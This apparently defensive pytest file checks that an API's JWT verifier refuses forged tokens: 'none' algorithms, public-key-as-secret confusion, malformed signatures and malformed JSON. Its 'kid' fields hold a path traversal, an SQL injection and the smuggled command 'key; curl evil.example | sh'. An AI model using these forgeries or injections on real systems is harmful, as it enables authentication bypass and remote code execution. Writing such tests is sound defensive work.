from __future__ import annotations

import json
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from api.auth import make_token
from api.auth.tokens import MalformedToken, canonical_bytes, verified_claims
from orchestrator.errors import SettingsError
from tests.api.auth.forging import (
    AUDIENCE,
    ISSUER,
    NOW,
    SECRET,
    Sign,
    authenticator,
    b64,
    bearer,
    claims,
    ec_jwk,
    ec_key,
    es,
    es_der,
    fixed,
    good,
    hs,
    ps,
    public,
    refused,
    rs,
    rsa_jwk,
    rsa_key,
    token,
)

HS, RS, ES = ({"alg": alg, "typ": "JWT"} for alg in ("HS256", "RS256", "ES256"))
INVALID = b'Bearer error="invalid_token"'
NESTED = "[" * 2000 + "]" * 2000


NONE = fixed(b"")

SIGNATURES: dict[str, tuple[Any, Any, Sign]] = {
    "none": ({"alg": "none"}, claims(), NONE),
    "none, rightly signed": ({"alg": "none"}, claims(), hs()),
    "None": ({"alg": "None"}, claims(), hs()),
    "NONE": ({"alg": "NONE"}, claims(), hs()),
    "nOnE": ({"alg": "nOnE"}, claims(), hs()),
    "lower case": ({"alg": "hs256"}, claims(), hs()),
    "blank behind": ({"alg": "HS256 "}, claims(), hs()),
    "no alg": ({"typ": "JWT"}, claims(), hs()),
    "null alg": ({"alg": None}, claims(), hs()),
    "list alg": ({"alg": ["HS256"]}, claims(), hs()),
    "number alg": ({"alg": 256}, claims(), hs()),
    "HS384": ({"alg": "HS384"}, claims(), hs(digest="sha384")),
    "HS512": ({"alg": "HS512"}, claims(), hs(digest="sha512")),
    "other secret": (HS, claims(), hs(SECRET[::-1])),
    "empty secret": (HS, claims(), hs(b"")),
    "secret": (HS, claims(), hs("secret")),
    "audience as secret": (HS, claims(), hs("poststream")),
    "swapped payload": (HS, claims(sub="root"), fixed(hs()(b64(HS) + b"." + b64(claims())))),
    "swapped header": ({**HS, "kid": "1"}, claims(), fixed(hs()(b64(HS) + b"." + b64(claims())))),
    "crit": ({**HS, "crit": ["exp"], "exp": NOW}, claims(), hs()),
    "empty crit": ({**HS, "crit": []}, claims(), hs()),
    "crit b64": ({**HS, "crit": ["b64"], "b64": False}, claims(), hs()),
    "b64": ({**HS, "b64": False}, claims(), hs()),
    "jku": ({**HS, "jku": "https://evil.example/keys"}, claims(), hs()),
    "x5u": ({**HS, "x5u": "https://evil.example/cert"}, claims(), hs()),
    "x5c": ({**HS, "x5c": ["MIIB"]}, claims(), hs()),
    "jwk": ({**HS, "jwk": {"kty": "oct", "k": "AAAA"}}, claims(), hs(b"\x00\x00\x00")),
    "kid path": ({**HS, "kid": "../../../../dev/null"}, claims(), hs(b"")),
    "kid SQL": ({**HS, "kid": "' UNION SELECT 'k' -- "}, claims(), hs("k")),
    "kid command": ({**HS, "kid": "key; curl evil.example | sh"}, claims(), hs("k")),
    "kid huge": ({**HS, "kid": "k" * 256}, claims(), hs()),
    "kid empty": ({**HS, "kid": ""}, claims(), hs()),
    "kid number": ({**HS, "kid": 1}, claims(), hs()),
    "kid list": ({**HS, "kid": ["1"]}, claims(), hs()),
    "JWE header": ({"alg": "dir", "enc": "A256GCM"}, claims(), hs()),
    "enc": ({**HS, "enc": "A256GCM"}, claims(), hs()),
    "nested": ({**HS, "cty": "JWT"}, good().decode(), hs()),
    "nested as payload": (HS, good().decode(), hs()),
    "zip": ({**HS, "zip": "DEF"}, claims(), hs()),
    "type JWE": ({**HS, "typ": "JWE"}, claims(), hs()),
    "type list": ({**HS, "typ": ["JWT"]}, claims(), hs()),
    "type null": ({**HS, "typ": None}, claims(), hs()),
    "logout token": ({**HS, "typ": "logout+jwt"}, claims(), hs()),
    "alg twice": ('{"alg":"none","alg":"HS256"}', claims(), hs()),
    "header list": ('["HS256"]', claims(), hs()),
    "header string": ('"HS256"', claims(), hs()),
    "header cut": ('{"alg":"HS256"', claims(), hs()),
    "header with BOM": ('\ufeff{"alg":"HS256"}', claims(), hs()),
    "header not UTF-8": (b'{"alg":"HS256","a":"\xff"}', claims(), hs()),
    "header deep": ('{"alg":"HS256","a":' + "[" * 1000 + "]" * 1000 + "}", claims(), hs()),
    "header very deep": ('{"alg":"HS256","a":' + "[" * 4000, claims(), hs()),
    "payload list": (HS, [claims()], hs()),
    "payload string": (HS, '"alice"', hs()),
    "payload null": (HS, "null", hs()),
    "payload cut": (HS, '{"sub":"alice"', hs()),
    "payload deep": (HS, json.dumps(claims())[:-1] + ',"a":' + NESTED + "}", hs()),
    "payload very deep": (HS, json.dumps(claims())[:-1] + ',"a":' + "[" * 4000, hs()),
    "claim twice": (HS, json.dumps(claims())[:-1] + ',"sub":"root"}', hs()),
    "claim twice, escaped": (HS, json.dumps(claims())[:-1] + ',"s\\u0075b":"root"}', hs()),
    "NaN": (HS, json.dumps(claims(exp=float("nan"))), hs()),
    "Infinity": (HS, json.dumps(claims(exp=float("inf"))), hs()),
    "1e400": (HS, json.dumps(claims(exp="@")).replace('"@"', "1e400"), hs()),
    "integer beyond 64 bits": (HS, claims(exp=10**30), hs()),
    "lone surrogate": (HS, claims(sub="\ud800"), hs()),
    "payload not UTF-8": (HS, b'{"sub":"\xff"}', hs()),
}


@pytest.mark.parametrize("name", SIGNATURES)
def test_a_token_is_signed_as_configured_and_in_no_other_way(name: str) -> None:
    header, payload, sign = SIGNATURES[name]
    challenge, words = refused(authenticator(), bearer(token(header, payload, sign)))
    assert (challenge, words) == (INVALID, "The token is not valid.")


RSA_PEM, EC_PEM = public(rsa_key("server")), public(ec_key("server"))

RSA_FORGERIES: dict[str, tuple[Any, Sign]] = {
    "public PEM as secret": (HS, hs(RSA_PEM)),
    "public PEM stripped": (HS, hs(RSA_PEM.strip())),
    "public PEM as RS256": (RS, hs(RSA_PEM)),
    "public DER as secret": (HS, hs(public(rsa_key("server"), Encoding.DER))),
    "public PKCS1 as secret": (HS, hs(public(rsa_key("server"), Encoding.PEM, PublicFormat.PKCS1))),
    "OpenSSH as secret": (
        HS,
        hs(public(rsa_key("server"), Encoding.OpenSSH, PublicFormat.OpenSSH)),
    ),
    "none": ({"alg": "none"}, fixed(b"")),
    "other key": (RS, rs(rsa_key("other"))),
    "own key brought along": ({**RS, "jwk": rsa_jwk(rsa_key("other"))}, rs(rsa_key("other"))),
    "RS384": ({"alg": "RS384"}, rs(rsa_key("server"), hashes.SHA384())),
    "RS512": ({"alg": "RS512"}, rs(rsa_key("server"), hashes.SHA512())),
    "PS256": ({"alg": "PS256"}, ps(rsa_key("server"))),
    "PS256 as RS256": (RS, ps(rsa_key("server"))),
    "ES256": (ES, es(ec_key("server"))),
    "zeros": (RS, fixed(bytes(256))),
    "ones": (RS, fixed(b"\xff" * 256)),
    "empty": (RS, fixed(b"")),
    "one byte short": (RS, lambda signed: rs(rsa_key("server"))(signed)[:-1]),
    "one byte more": (RS, lambda signed: rs(rsa_key("server"))(signed) + b"\x00"),
}

_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

EC_FORGERIES: dict[str, tuple[Any, Sign]] = {
    "r = s = 0": (ES, fixed(bytes(64))),
    "r = 0, s = 1": (ES, fixed(bytes(63) + b"\x01")),
    "r = s = 1": (ES, fixed((bytes(31) + b"\x01") * 2)),
    "r = s = order": (ES, fixed(_ORDER.to_bytes(32, "big") * 2)),
    "r = s = largest": (ES, fixed(b"\xff" * 64)),
    "DER": (ES, es_der(ec_key("server"))),
    "one byte short": (ES, lambda signed: es(ec_key("server"))(signed)[:-1]),
    "half": (ES, lambda signed: es(ec_key("server"))(signed)[:32]),
    "one byte more": (ES, lambda signed: es(ec_key("server"))(signed) + b"\x00"),
    "longer numbers": (ES, lambda signed: bytes(32) + es(ec_key("server"))(signed) + bytes(32)),
    "empty": (ES, fixed(b"")),
    "other key": (ES, es(ec_key("other"))),
    "own key brought along": ({**ES, "jwk": ec_jwk(ec_key("other"))}, es(ec_key("other"))),
    "public PEM as secret": (HS, hs(EC_PEM)),
    "public DER as secret": (HS, hs(public(ec_key("server"), Encoding.DER))),
    "OpenSSH as secret": (HS, hs(public(ec_key("server"), Encoding.OpenSSH, PublicFormat.OpenSSH))),
    "none": ({"alg": "none"}, fixed(b"")),
    "ES384": ({"alg": "ES384"}, es(ec_key("p384", ec.SECP384R1), hashes.SHA384())),
    "other curve": (ES, es(ec_key("p384", ec.SECP384R1))),
    "ES384 hash": (ES, es(ec_key("server"), hashes.SHA384())),
    "RS256": (RS, rs(rsa_key("server"))),
}


@pytest.mark.parametrize("name", RSA_FORGERIES)
def test_a_public_key_opens_nothing(name: str) -> None:
    header, sign = RSA_FORGERIES[name]
    challenge, words = refused(authenticator("RS256"), bearer(token(header, claims(), sign)))
    assert (challenge, words) == (INVALID, "The token is not valid.")


@pytest.mark.parametrize("name", EC_FORGERIES)
def test_an_elliptic_signature_has_one_form(name: str) -> None:
    header, sign = EC_FORGERIES[name]
    challenge, words = refused(authenticator("ES256"), bearer(token(header, claims(), sign)))
    assert (challenge, words) == (INVALID, "The token is not valid.")


@pytest.mark.parametrize("alg", ["none", "HS384", "RS256", None])
def test_no_key_is_looked_for_when_the_algorithm_is_another_one(alg: str | None) -> None:
    def key_for(kid: str | None) -> Any:
        raise AssertionError("it was looked for")

    forged = token({"alg": alg, "kid": "1"}, claims(), hs())
    with pytest.raises(MalformedToken):
        verified_claims(forged, algorithm="HS256", key_for=key_for)


@pytest.mark.parametrize("segment", [b"QQ", b"QUI", b"QUJD", b"", b"-_-_"])
def test_canonical_base64url_is_decoded(segment: bytes) -> None:
    assert b64(canonical_bytes(segment)) == segment


@pytest.mark.parametrize("segment", [b"QR", b"QUJ", b"QQ==", b"Q", b"+/+/", b"Q Q"])
def test_other_spellings_are_refused(segment: bytes) -> None:
    with pytest.raises(ValueError):  # noqa: PT011 - which one does not matter
        canonical_bytes(segment)


def make(secret: str = SECRET, *, issued_at: int | None = NOW) -> bytes:
    return make_token(
        secret,
        subject="bob",
        scopes=["tasks:read", "admin"],
        ttl_seconds=60,
        issuer=ISSUER,
        audience=AUDIENCE,
        issued_at=issued_at,
    ).encode()


def test_a_made_token_is_accepted_until_it_expires() -> None:
    found = authenticator().authenticate(bearer(make()), b"")
    assert (found.subject, found.expires_at) == ("bob", NOW + 60)
    assert found.scopes == {"tasks:read", "admin"}
    assert "expired" in refused(authenticator(now=NOW + 60), bearer(make()))[1]


def test_a_token_is_made_for_now_unless_another_time_is_given() -> None:
    made = make(issued_at=None)
    payload = json.loads(canonical_bytes(made.split(b".")[1]))
    assert payload["exp"] == payload["iat"] + 60
    assert payload["iat"] > 1_700_000_000


def test_no_token_is_made_with_a_weak_secret() -> None:
    with pytest.raises(SettingsError, match="at least 32 bytes"):
        make("short")


def test_the_reader_says_what_is_wrong_only_to_the_log() -> None:
    assert issubclass(MalformedToken, ValueError)
    assert refused(authenticator(), bearer(good() + b"."))[1] == "The token is not valid."
